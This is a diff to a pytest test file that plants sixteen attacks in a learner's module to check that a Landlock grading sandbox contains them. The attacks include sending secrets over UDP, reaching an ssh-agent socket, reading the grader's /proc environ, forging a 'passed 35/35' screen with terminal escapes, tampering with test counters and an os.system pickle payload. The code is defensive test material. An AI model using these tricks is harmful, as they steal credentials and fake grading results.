@@ -7,6 +7,7 @@ import hashlib
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import sysconfig
@@ -25,6 +26,7 @@ from _tree import ROOT
 pytestmark = [pytest.mark.meta, pytest.mark.skipif(not _sandbox.abi(), reason="no Landlock on this kernel")]
 
 L1 = find_drill("l1")
+SECRETS = ("drills-env-secret-5f1c", "drills-file-secret-9a7e")  # what attack 8 looks for
 
 # Each attack runs when the learner's module is imported in the worker, and prints what
 # stopped it, so the grade's "your code printed" shows the sandbox at work. __MARKERS__
@@ -82,9 +84,54 @@ def detached_rewriter():  # 6: outlive the grader, then rewrite its --json file
     subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=subprocess.DEVNULL,
                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 
+def read_solutions():  # 7: the reference next door, and by import
+    open(os.path.join(ROOT, "solutions", "l1_paged_kv_write.py")).read()
+
+def secrets_out():  # 8: a secret variable and a file outside the sandbox, printed and sent over UDP
+    import socket
+    found = os.environ.get("DRILLS_ATTACK_SECRET", "")
+    try:
+        found += open(__SECRET_FILE__).read()
+    except OSError as error:
+        print(f"attack 8 file: stopped ({type(error).__name__})")
+    print("leak:", found)
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(found.encode() or b"nothing", ("127.0.0.1", __UDP_PORT__))
+
+def unix_socket():  # 9: a pathname Unix socket of the instructor's (an ssh-agent, a docker socket)
+    import socket
+    socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect(__UNIX_SOCKET__)
+
+def limits_on_others():  # 10: the test process's limits and priority, so its big test skips itself
+    import resource
+    if not _pids("pytest"):
+        raise LookupError("no test process is visible")
+    for pid in _pids("pytest"):
+        resource.prlimit(pid, resource.RLIMIT_AS, (1 << 30, 1 << 30))
+    for pid in _pids("pytest"):
+        os.setpriority(os.PRIO_PROCESS, pid, 19)
+        os.sched_setaffinity(pid, {0})
+
+def environ_of_others():  # 11: another process's environment (the grader's secrets)
+    if not _pids("grader.py"):
+        raise LookupError("no grader process is visible")
+    for pid in _pids("grader.py"):
+        open(f"/proc/{pid}/environ", "rb").read()
+
+def daemon_holding_pipes():  # 12: a process that outlives its worker, holding whatever it inherited
+    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True)
+
+print("\x1b[2J\x1b[H\x1b[1;32mdrills  passed 35/35\x1b[0m\x1b]0;title\x07\x9b31m")  # 13: repaint the screen
+
 for _name, _action in (("1 conftest", conftest_then_kill), ("2 pyc", stale_pyc), ("3 sitecustomize", sitecustomize),
-                       ("5 key", read_the_key), ("6 detached", detached_rewriter)):
+                       ("5 key", read_the_key), ("6 detached", detached_rewriter), ("7 solutions", read_solutions),
+                       ("8 secrets", secrets_out), ("9 unix socket", unix_socket), ("10 limits", limits_on_others),
+                       ("11 environ", environ_of_others), ("12 daemon", daemon_holding_pipes)):
     _attempt(_name, _action)
+
+try:  # 14: the counters live here: send no traffic counts, so the read-counting test has nothing to count
+    sys.modules["_counting"].measure_here = lambda fn, tensors, *a, **k: (fn(*a, **k), None)
+except KeyError:
+    pass
 
 
 class _Payload:  # 4: a reply whose unpickling runs code in the test process
@@ -95,8 +142,13 @@ class _Payload:  # 4: a reply whose unpickling runs code in the test process
 _real_reshape_and_cache = reshape_and_cache
 
 
-def reshape_and_cache(*args, **kwargs):
-    _real_reshape_and_cache(*args, **kwargs)
+def reshape_and_cache(key, value, k_cache, v_cache, slot_mapping):
+    _real_reshape_and_cache(key, value, k_cache, v_cache, slot_mapping)
+    slot_mapping.fill_(-1)  # 15: change an input after the write, so that "write nothing" would be expected
+    raise RuntimeError("\x1b[1;32mall good\x1b[0m")  # 16: escapes in an error message too
+
+
+def slot_mapping(*args, **kwargs):
     return _Payload()
 '''
 
@@ -127,15 +179,45 @@ def forged(tmp_path_factory):
     learner = tmp / "learner"
     _wrong.plant(L1, "padding_written", learner)  # a wrong kernel: it must not pass
     module = learner / f"{L1.stem}.py"
-    module.write_text(module.read_text() + ATTACKS.replace("__ROOT__", repr(str(repo))).replace("__MARKERS__", repr(str(markers))))
+    # What a real laptop holds: a secret in the environment and in a file, and a Unix socket
+    # (an ssh-agent); and a UDP listener of ours that a leak would reach.
+    secret_file = tmp / "id_secret"
+    secret_file.write_text(SECRETS[1])
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind(("127.0.0.1", 0))
+    udp.setblocking(False)
+    agent = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    agent.bind(str(tmp / "agent.sock"))
+    agent.listen(4)
+    agent.setblocking(False)
+    attacks = ATTACKS
+    for name, value in (("__ROOT__", str(repo)), ("__MARKERS__", str(markers)), ("__SECRET_FILE__", str(secret_file)),
+                        ("__UNIX_SOCKET__", str(tmp / "agent.sock"))):
+        attacks = attacks.replace(name, repr(value))
+    module.write_text(module.read_text() + attacks.replace("__UDP_PORT__", str(udp.getsockname()[1])))
     before = _snapshot(repo), _snapshot(venv)
     out_json = markers / "grade.json"
-    env = {"PYTHONDONTWRITEBYTECODE": "1", "COLUMNS": "200"}  # no bytecode of ours: any .pyc is the attack's
+    env = {"PYTHONDONTWRITEBYTECODE": "1", "COLUMNS": "200",  # no bytecode of ours: any .pyc is the attack's
+           "DRILLS_ATTACK_SECRET": SECRETS[0]}
+    started = time.monotonic()
     code, out, err = run_process([str(venv / "bin" / "python"), str(repo / "grader.py"), "l1", "--tree", str(learner),
                                   "--json", str(out_json)], 600, env)
-    first = json.loads(out_json.read_text())
+    seconds = time.monotonic() - started
+    first = out_json.read_text()
     time.sleep(6)  # the detached rewriter's moment has passed
-    return dict(code=code, out=out, err=err, grade=first, json_after=json.loads(out_json.read_text()),
+    received = []
+    try:
+        while True:
+            received.append(udp.recv(65536))
+    except BlockingIOError:
+        pass
+    try:
+        agent.accept()
+        reached_agent = True
+    except BlockingIOError:
+        reached_agent = False
+    return dict(code=code, out=out, err=err, grade=json.loads(first), json_text=first, seconds=seconds,
+                json_after=json.loads(out_json.read_text()), udp=b"".join(received), reached_agent=reached_agent,
                 before=before, after=(_snapshot(repo), _snapshot(venv)), markers=markers)
 
 
@@ -154,8 +236,37 @@ def test_nothing_under_the_project_or_the_venv_changed(forged):
 
 def test_the_sandbox_stopped_each_attack_and_the_grade_shows_it(forged):
     printed = forged["out"]
-    for attack in ("1 conftest", "2 pyc", "3 sitecustomize", "5 key"):
-        assert f"attack {attack}: stopped" in printed or f"attack {attack}: done" not in printed, attack
+    for attack in ("1 conftest", "2 pyc", "3 sitecustomize", "5 key", "7 solutions", "9 unix socket", "10 limits",
+                   "11 environ"):
+        assert f"attack {attack}: done" not in printed, attack
+    assert not forged["reached_agent"]
+
+
+def test_no_secret_leaves_the_sandbox(forged):
+    """Attack 8: the variable never reached the worker, the file was closed to it, and nothing
+    reached a UDP listener on this machine."""
+    for secret in SECRETS:
+        assert secret not in forged["out"] + forged["err"] and secret not in forged["json_text"], secret
+        assert secret.encode() not in forged["udp"], secret
+
+
+def test_the_terminal_and_the_json_get_text_not_escapes(forged):
+    """Attacks 13 and 16: what the learner printed or raised reaches neither as control characters."""
+    for text in (forged["out"], forged["json_text"]):
+        assert "\x1b" not in text and "\x9b" not in text and "\\u001b" not in text and "\\u009b" not in text
+
+
+def test_a_detached_process_does_not_hold_the_grade(forged):
+    """Attack 12: a process of the learner's that outlives its worker neither holds the grader
+    past its limits nor stops it writing --json."""
+    assert forged["seconds"] < 300 and forged["grade"]["drills"]
+
+
+def test_a_skip_the_learners_run_caused_is_no_pass(forged):
+    """Attacks 10 and 14: with the counts withheld (and the test process's limits left alone)
+    no test of the wrong tree skips beyond the one the reference skips on this CPU too."""
+    s = forged["grade"]["drills"][0]
+    assert s["skipped"] <= 1 and s["status"] == "failing", s
 
 
 def test_a_reply_that_is_not_data_is_refused_not_run(forged):
@@ -169,16 +280,30 @@ def test_no_process_of_the_learner_outlives_the_grade(forged):
     assert forged["json_after"] == forged["grade"]
 
 
-def test_the_allow_list_unpickler_takes_tensors_and_refuses_callables():
+def test_a_reply_is_read_as_plain_data_only():
+    """tests/_data.py builds tensors itself from a reply's references and refuses every
+    global a pickle names: os.system, and torch's own reductions (the old resource-sharer path)."""
     import pickle
 
     import torch
     from multiprocessing.reduction import ForkingPickler
-    data = (torch.arange(6).view(2, 3)[:, 1:], [1, 2.5, None, "s", {"k": torch.float16}], torch.Size([2]))
-    back = loads(bytes(ForkingPickler.dumps(data)))
-    assert torch.equal(back[0], data[0]) and back[1] == data[1] and back[2] == data[2]
-    with pytest.raises(NotData, match="posix.system|os.system"):
-        loads(pickle.dumps(type("P", (), {"__reduce__": lambda self: (os.system, ("true",))})()))
+
+    import _channel
+    out = torch.full((2, 3), float("nan"))
+    sharing = _channel.Sharing()
+    try:
+        sharing.pickle_args((out,), {}, ("out",), ("out",))
+        shared = {0: sharing.storages[0].shared}
+        reply = ("ok", (torch.arange(6).view(2, 3)[:, 1:], [1, 2.5, None, "s", {"k": b"x"}], shared[0][:4]))
+        back = loads(_channel.pickle_reply(reply, shared), sharing.view)
+    finally:
+        sharing.close()
+    assert torch.equal(back[1][0], torch.tensor([[1, 2], [4, 5]])) and back[1][1] == [1, 2.5, None, "s", {"k": b"x"}]
+    assert back[1][2].untyped_storage().data_ptr() == out.untyped_storage().data_ptr()  # ours, not the worker's
+    for evil in (pickle.dumps(type("P", (), {"__reduce__": lambda self: (os.system, ("true",))})()),
+                 bytes(ForkingPickler.dumps(torch.arange(3)))):
+        with pytest.raises(NotData):
+            loads(evil)
 
 
 def test_a_confined_process_writes_only_its_scratch(tmp_path):
